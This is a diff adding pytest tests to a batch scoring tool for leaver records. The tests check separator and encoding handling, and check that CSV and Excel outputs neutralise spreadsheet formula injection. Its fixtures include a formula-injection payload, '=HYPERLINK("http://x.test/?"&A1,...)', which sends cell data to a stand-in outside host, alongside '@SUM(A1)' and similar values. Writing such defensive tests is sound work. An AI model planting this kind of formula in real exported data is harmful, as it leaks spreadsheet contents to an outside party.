@@ -1,5 +1,9 @@
 from __future__ import annotations
 
+import csv
+import json
+import re
+
 import numpy as np
 import pandas as pd
 import pytest
@@ -326,3 +330,146 @@ def test_coaching_streams_with_each_leavers_checklist(tmp_path, model, cohort):
                                 chunked["coaching"], strict=True):
         items = model.coach(record, lang="ja", top_k=3)["item"]
         assert coaching == " / ".join(items)
+
+
+# --------------------------------------------------------------------------------------
+# Spreadsheet exports in and out
+# --------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(("sep", "encoding"), [
+    (";", "utf-8"), ("\t", "utf-8"), ("\t", "utf-16"), (";", "utf-8-sig"), (";", "cp932"),
+])
+def test_each_excel_export_scores_as_the_comma_file(tmp_path, model, cohort, sep, encoding):
+    cohort.to_csv(tmp_path / "comma.csv", index=False)
+    cohort.to_csv(tmp_path / "export.txt", sep=sep, index=False, encoding=encoding)
+    batch.score_file(tmp_path / "comma.csv", tmp_path / "comma_scores.csv", model=model,
+                     explain=1, keep=["age"])
+    summary = batch.score_file(tmp_path / "export.txt", tmp_path / "scores.csv", model=model,
+                               explain=1, keep=["age"], chunk_rows=50)
+    assert summary.line() == "read 120 rows: scored 120, rejected 0"
+    pd.testing.assert_frame_equal(pd.read_csv(tmp_path / "scores.csv"),
+                                  pd.read_csv(tmp_path / "comma_scores.csv"))
+    checked, problems = batch.check_file(tmp_path / "export.txt", sep=sep)
+    assert (checked.read, checked.scored, len(problems)) == (120, 120, 0)
+
+
+def test_a_semicolon_file_read_as_commas_says_what_it_looks_like(tmp_path, model, cohort):
+    cohort.to_csv(tmp_path / "in.csv", sep=";", index=False)
+    with pytest.raises(SchemaError, match="missing required columns: company_size, .*; the "
+                       "table has one column, whose name contains ';': the file looks "
+                       "';'-separated; pass --sep ';'"):
+        batch.score_file(tmp_path / "in.csv", tmp_path / "out.csv", model=model, sep=",")
+    with pytest.raises(SchemaError, match="looks ';'-separated; pass --sep ';'"):
+        batch.check_file(tmp_path / "in.csv", sep=",")
+    assert not (tmp_path / "out.csv").exists()
+
+
+def test_a_wrong_encoding_is_named_when_no_header_matches(tmp_path, model, cohort):
+    cohort.to_csv(tmp_path / "in.txt", sep="\t", index=False, encoding="utf-16-le")  # no BOM
+    with pytest.raises(SchemaError, match="hold NUL bytes: the file is likely UTF-16 text; "
+                       "pass --encoding utf-16"):
+        batch.score_file(tmp_path / "in.txt", tmp_path / "out.csv", model=model)
+    summary = batch.score_file(tmp_path / "in.txt", tmp_path / "out.csv", model=model,
+                               encoding="utf-16-le")
+    assert summary.scored == 120
+    cohort.rename(columns=lambda c: f"{c}\u00e2\u20ac\u2122").to_csv(tmp_path / "odd.csv",
+                                                                    index=False)
+    with pytest.raises(SchemaError, match="characters of a likely wrong encoding; pass "
+                       "--encoding"):
+        batch.score_file(tmp_path / "odd.csv", tmp_path / "out.csv", model=model)
+    cohort.rename(columns=str.upper).to_csv(tmp_path / "upper.csv", index=False)
+    with pytest.raises(SchemaError, match="no column of the table is a field \\(the headers "
+                       "are 'LEAVER_ID', 'COMPANY_SIZE', 'INDUSTRY', ...\\); .* --columns"):
+        batch.score_file(tmp_path / "upper.csv", tmp_path / "out.csv", model=model)
+
+
+PLAIN_NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?", re.ASCII)
+UNDO = re.compile(r"^'(?='*[=+\-@\t\r])")
+FORMULA_TEXT = st.one_of(
+    st.builds(str.__add__, st.sampled_from(["=", "+", "-", "@", "\t", "\r", "'=", "x\r="]),
+              st.text(max_size=10)),
+    st.text(max_size=10),
+    st.sampled_from(["-1", "+2.5", "=1+1", '=HYPERLINK("http://x.test/?"&A1,"click")',
+                     "@SUM(A1)", "-2+3", "+1-555"]),
+)
+
+
+def _csv_cells(path, encoding="utf-8"):
+    with open(path, encoding=encoding, newline="") as f:
+        return list(csv.reader(f))
+
+
+def _runs_as_formula(cell):
+    return cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not PLAIN_NUMBER.fullmatch(cell)
+
+
+@settings(max_examples=40, deadline=None,
+          suppress_health_check=[HealthCheck.function_scoped_fixture])
+@given(data=st.data())
+def test_no_scores_or_rejects_cell_runs_as_a_formula(tmp_path_factory, model, cohort, data):
+    import openpyxl
+
+    frame = cohort.head(6).astype(object)
+    ids = data.draw(st.lists(FORMULA_TEXT.filter(str.strip), min_size=6, max_size=6,
+                             unique=True))
+    notes = data.draw(st.lists(st.none() | FORMULA_TEXT, min_size=6, max_size=6))
+    deltas = data.draw(st.lists(st.floats(-1e9, 1e9), min_size=6, max_size=6))
+    bad = data.draw(st.builds(str.__add__, st.sampled_from(["=", "+", "-", "@", "'="]),
+                              st.text(max_size=8)))
+    frame["leaver_id"], frame["note"], frame["delta"] = ids, notes, deltas
+    frame.loc[frame.index[2], "company_size"] = bad
+    folder = tmp_path_factory.mktemp("formulas")
+    frame.to_parquet(folder / "in.parquet", index=False)
+    kept = [i for i in range(6) if i != 2]
+    for name, encoding in (("out.csv", "utf-8"), ("out16.csv", "utf-16")):
+        summary = batch.score_file(folder / "in.parquet", folder / name, model=model,
+                                   keep=["note", "delta"], output_encoding=encoding)
+        assert (summary.scored, summary.rejected) == (5, 1)
+        scores = _csv_cells(folder / name, encoding)
+        rejects = _csv_cells(folder / f"{name}.rejects.csv", encoding)
+        cells = [cell for row in scores + rejects for cell in row]
+        assert not [cell for cell in cells if _runs_as_formula(cell)]
+        assert [UNDO.sub("", row[0]) for row in scores[1:]] == [ids[i] for i in kept]
+        assert [UNDO.sub("", row[1]) for row in scores[1:]] == [notes[i] or "" for i in kept]
+        assert [float(row[2]) for row in scores[1:]] == [deltas[i] for i in kept]
+        assert [UNDO.sub("", cell) for cell in rejects[1][1:4]] == [ids[2], "company_size", bad]
+    batch.score_file(folder / "in.parquet", folder / "out.xlsx", model=model,
+                     keep=["note", "delta"])
+    book = openpyxl.load_workbook(folder / "out.xlsx")
+    cells = [cell for ws in book.worksheets for row in ws.iter_rows() for cell in row]
+    assert not [cell for cell in cells if cell.data_type == "f"]
+    as_xml = [re.sub("[\x00-\x08\x0b\x0c\x0e-\x1f]", "\ufffd",
+                     ids[i].replace("\r\n", "\n").replace("\r", "\n")) for i in kept]
+    assert [cell.value for cell in book["scores"]["A"][1:]] == as_xml
+    assert [cell.value for cell in book["scores"]["C"][1:]] == pytest.approx(
+        [deltas[i] for i in kept], rel=1e-15)  # openpyxl writes 16 significant digits
+
+
+def test_raw_text_keeps_values_exact_and_the_audit_log_is_always_exact(tmp_path, model,
+                                                                       cohort):
+    frame = cohort.head(4).astype(object)
+    frame["leaver_id"] = ['=HYPERLINK("http://x.test/?"&A1,"click")', "-2+3", "@SUM(A1)", "L4"]
+    frame["note"] = ["+1-555", "-7", None, "=1+1"]
+    frame.loc[frame.index[3], "company_size"] = "=1+1"
+    frame.to_csv(tmp_path / "in.csv", index=False)
+    log = tmp_path / "audit.jsonl"
+    batch.score_file(tmp_path / "in.csv", tmp_path / "raw.csv", model=model, keep=["note"],
+                     raw_text=True, audit_log=log)
+    raw = pd.read_csv(tmp_path / "raw.csv", dtype=str, keep_default_na=False)
+    assert raw["leaver_id"].tolist() == frame["leaver_id"].tolist()[:3]
+    assert raw["note"].tolist() == ["+1-555", "-7", ""]
+    rejects = pd.read_csv(tmp_path / "raw.csv.rejects.csv", dtype=str)
+    assert rejects[["leaver_id", "value"]].values.tolist() == [["L4", "=1+1"]]
+    batch.score_file(tmp_path / "in.csv", tmp_path / "safe.csv", model=model, keep=["note"])
+    safe = pd.read_csv(tmp_path / "safe.csv", dtype=str, keep_default_na=False)
+    assert safe["leaver_id"].tolist() == ['\'=HYPERLINK("http://x.test/?"&A1,"click")',
+                                          "'-2+3", "'@SUM(A1)"]
+    assert safe["note"].tolist() == ["'+1-555", "-7", ""]
+    assert pd.read_csv(tmp_path / "safe.csv.rejects.csv", dtype=str)["value"].tolist() == [
+        "'=1+1"]
+    logged = [json.loads(line)["leaver_id"] for line in log.read_text("utf-8").splitlines()]
+    assert logged == frame["leaver_id"].tolist()[:3]
+    batch.score_file(tmp_path / "in.csv", tmp_path / "out.parquet", model=model, keep=["note"])
+    exact = pd.read_parquet(tmp_path / "out.parquet")
+    assert exact["leaver_id"].tolist() == frame["leaver_id"].tolist()[:3]
